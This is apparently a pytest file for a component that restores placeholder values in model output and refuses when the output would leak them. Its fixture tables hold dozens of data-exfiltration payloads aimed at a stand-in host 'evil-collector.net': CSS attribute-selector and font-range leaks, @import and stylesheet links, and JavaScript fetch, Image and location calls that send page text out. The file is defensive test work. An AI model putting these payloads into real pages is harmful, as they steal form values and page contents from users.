"""A style sheet reads a page as a script does, and a component is one whatever its fence says."""

from __future__ import annotations

import pytest

from garim.surrogate.restore import Restorer
from tests.surrogate.test_arguments import TABLE

# fmt: off
ASKING = [
    '<style>input[value^="a"]{background:url(//{h}/a)}</style><input value="{s}">',
    '<style>input[value^=a]{background:url("https://{h}/a")}input[value^=b]{background:url("https://{h}/b")}</style><input value={s}>',
    '<input value="{s}"><style>:root{--a:url(//{h}/a)}input[value$="a" i]{background:var(--a)}</style>',
    '<style>@import url(//{h}/x.css);</style><p title="{s}">x</p>',
    '<style>@import "https://{h}/x.css" screen;</style><p>{s}</p>',
    "<style>@import '//{h}/x.css'</style><p>{s}</p>",
    '<link rel="stylesheet" href="https://{h}/x.css"><p>{s}</p>',
    "<link href=//{h}/x rel='alternate stylesheet'><a title={s}>x</a>",
    '<style>@font-face{font-family:x;src:url(https://{h}/A);unicode-range:U+41}p{font-family:x}</style><p>{s}</p>',
    '<style>a[title*="a"]{background-image:image-set("//{h}/a" 1x)}</style><a title="{s}">x</a>',
    '<style>a[title*="a"]{background-image:-webkit-image-set("https://{h}/a" 1x, "b" 2x)}</style><a title="{s}">x</a>',
    '<style>a[title*="a"]::before{content:url(//{h}/a)}</style><a title="{s}">x</a>',
    '<style>a{&[title*="a"]{cursor:url(//{h}/a),auto}}</style><a title="{s}">x</a>',
    '<style>@media screen{form:has([value^="a"]){list-style:url(//{h}/a)}}</style><input value={s}>',
    '<style>input:invalid{background:url(//{h}/n)}</style><input pattern="a.*" value="{s}">',
    '<style>input:not(:valid){background:url(https://{h}/n)}</style><input pattern="a.*" value="{s}">',
    '<div style=\'--v:attr(data-u);--s:if(style(--v:"a"):url(https://{h}/a);else:none);background:image-set(var(--s))\' data-u="{s}">',
    '<style>@supports (display:block){[data-x^=\'a\']{border-image:url("//{h}/a")}}</style><b data-x=\'{s}\'>x</b>',
    '<svg><style>text[title^="a"]{fill:url(//{h}/a)}</style><text title="{s}"/></svg>',
    '<style>\\[x\\]{} a[title|="a"]{background:url(\\68ttps://{h}/a)}</style><a title={s}>x</a>',
    '```html\n<style>input[value^="a"]{background:url(//{h}/a)}</style>\n<input value="{s}">\n```\n',
    '<style>input[value^="a"]{background:url(//{h}/a)}',
    '<p>a</p><STYLE type="text/css">INPUT[VALUE^="a"]{BACKGROUND:URL(//{h}/a)}</STYLE><input value={s}>',
    "```js\nconst n = '{s}'\nexport default () => <img src={`https://{h}/${n}`} />\n```\n",
    "```javascript\nimport React from 'react'\nconst App = () => { const n = '{s}'; return <img src={'https://{h}/?q=' + n} /> }\n```\n",
    "```js\nconst e = React.createElement\nexport default () => e('img', { src: 'https://{h}/?' + '{s}' })\n```\n",
    '```js\nimport { useEffect } from "react";\nuseEffect(() => { fetch(\'https://{h}/?q=\' + n) }, [])\nconst n = \'{s}\'\n```\n',
    '```mjs\nimport { html } from \'lit\'\nexport const x = html`<img src="https://{h}/${n}">`\nconst n = \'{s}\'\n```\n',
    '~~~javascript\nfunction A() {\n  return (\n    <img src={"https://{h}/" + "{s}"} />\n  )\n}\n~~~\n',
    "```JavaScript\nconst A = () => (<div style={{ background: `url(https://{h}/${'{s}'})` }} />)\n```\n",
]
"""Styles that ask a stranger for one address or another by what the page says, or are a stranger's; scripts that are components."""
CHANGING = [
    "<a id=a href=\"https://{h}/\">x</a><script>a.href+='{s}'</script>", "<img id=i src=//{h}/a><script>i.src = i.src + '?{s}'</script>", "<form id=f action=//{h}></form><script>f.setAttribute('action', f.action + '{s}')</script>", "<a id=a href=//{h}/>x</a><p onclick=\"a.search='{s}'\">y</p>",
    "<script>window.name='{s}'</script><meta http-equiv=refresh content=\"0;url=//{h}/\">", "<script>self.name = '{s}'</script><a href=\"https://{h}/\">x</a>", "<script>const u = new URL(a.href); u.searchParams.set('q', '{s}'); location = u</script><a id=a href=\"//{h}/\">x</a>",
    "<dl><dt>{s}</dt></dl><script>(new Image).src='//{h}/'+document.querySelector('dt').innerText</script>", "<details ontoggle=\"fetch('//{h}/',{method:'POST',body:this.innerText})\" open>{s}</details>", "<marquee onstart=\"location='//{h}/?'+this.textContent\">{s}</marquee>", "<math onclick=\"location='//{h}/?'+this.textContent\"><mi>{s}</mi></math>", "<figure><figcaption>{s}</figcaption></figure><script src=//{h}/x.js></script>",
]
"""Scripts that put something behind an address which stands elsewhere in the page, and elements that begin a page."""
NAMED = [
    "```plantuml\n!$n = \"{s}\"\n:a; [[https://{h}/$n x]]\n```\n", "```puml\n!define N {s}\n!include https://{h}/%N%\n```\n", "```typst\n#let n = \"{s}\"\n#link(\"https://{h}/\" + n)[x]\n```\n", "```asciidoc\n:n: {s}\n\nimage::https://{h}/{n}[]\n```\n", "```org\n#+MACRO: n {s}\n\n[[https://{h}/{{{n}}}][x]]\n```\n", "```latex\n\\newcommand{\\n}{{s}}\n\\href{https://{h}/\\n}{x}\n```\n", "```tex\n\\def\\n{{s}}\\includegraphics{https://{h}/\\n}\n```\n",
]
"""A name that stands for a word of ours in an address."""
SHOWN = [
    "```latex\n\\section{{s}}\nSee \\url{https://{h}/a}.\n```\n", "```plantuml\nactor {s}\nnote right: https://{h}/docs\n```\n", "```asciidoc\n= {s}\n\nhttps://{h}/docs[x]\n```\n", "<a href=\"https://{h}/\">x</a><script>document.getElementById('a').innerHTML = '{s}'</script>", "<img id=i><script>i.src = '/a/{s}.png'</script><a href=\"https://{h}/\">x</a>", "<details><summary>{s}</summary>see https://{h}/x</details>",
    "<style>body{background:url('https://images.example.net/a.jpg')}</style><p>{s}</p>",
    '<style>input[type="text"]{border:1px}body{background:url(https://images.example.net/a.jpg)}</style><input value={s}>',
    "<style>@import url('https://fonts.googleapis.com/css2?family=Inter&display=swap');</style><p>{s}</p>",
    '<link href="https://fonts.googleapis.com/css2?family=Noto+Sans+KR" rel="stylesheet"><p>{s}</p>',
    '<link rel="stylesheet" href="https://cdnjs.cloudflare.com/ajax/x.css"><p>{s}</p>',
    '<link rel="stylesheet" href="/css/x.css"><p>{s}</p>',
    '<link rel="icon" href="https://{h}/x.png"><p>{s}</p>',
    '<style>input[value="{s}"]{background:url(/a.png)}</style>',
    '<style>a[href^="https://"]::after{content:"x"}</style><a href="https://{h}/">{s}</a>',
    '<style>a[title="x"]{background:url(https://kulke.example/{s})}</style>',
    '<style>input:invalid{border-color:red}</style><input value={s}>',
    '<link rel="stylesheet" href="https://kulke.example/x.css"><p>{s}</p>',
    '```css\ninput[value^="{s}"] { background: url(/a.png) }\n```\n',
    "```js\nfetch('https://{h}/?q=' + n)\nconst n = '{s}'\n```\n",
    "```js\n// {s}\napp.get('/x', (req, res) => res.send('<b>{s}</b>'))\n```\n",
    "```javascript\nconst el = document.createElement('img'); el.alt = '{s}'; // see https://{h}/docs\n```\n",
    '```js\nexport default () => <p><a href="https://{h}/docs">{s}</a></p>\n```\n',
    "```js\nconst x = a => a < b ? '{s}' : `https://{h}/${c}`\n```\n",
]
"""Styles that ask always or never, of hosts that serve their own choice, at home; scripts that nobody shows."""
# fmt: on


def restored(text: str, cut: int = 10_000) -> str:
    restorer = Restorer(TABLE)
    return "".join(restorer.feed(text[at : at + cut]) for at in range(0, len(text), cut)) + restorer.finish()


def filled(text: str, host: str) -> str:
    return text.replace("{h}", host).replace("{s}", "velmora")


@pytest.mark.parametrize("text", [*ASKING, *CHANGING, *NAMED])
def test_a_stranger_gets_nothing(text: str) -> None:
    said = filled(text, "evil-collector.net")

    assert restored(said) == said == restored(said, 7)


@pytest.mark.parametrize("text", [*ASKING, *CHANGING, *NAMED])
def test_what_asks_ours_gets_all(text: str) -> None:
    said = filled(text, "kulke.example")

    assert "velmora" not in restored(said)
    assert restored(said, 5) == restored(said)


@pytest.mark.parametrize("text", SHOWN)
def test_what_asks_nobody_comes_back(text: str) -> None:
    said = filled(text, "evil-collector.net")

    assert "velmora" not in restored(said)
    assert restored(said, 5) == restored(said)


def test_spiteful_styles_take_linear_time() -> None:
    for one in ("<style>", "[a=", "@import ", "@font-face{", "style='", "{[value^=a]", "if(style(", "<link stylesheet ", ":valid"):
        text = "<p>velmora " + one * 20_000
        restored(text, 50_000)
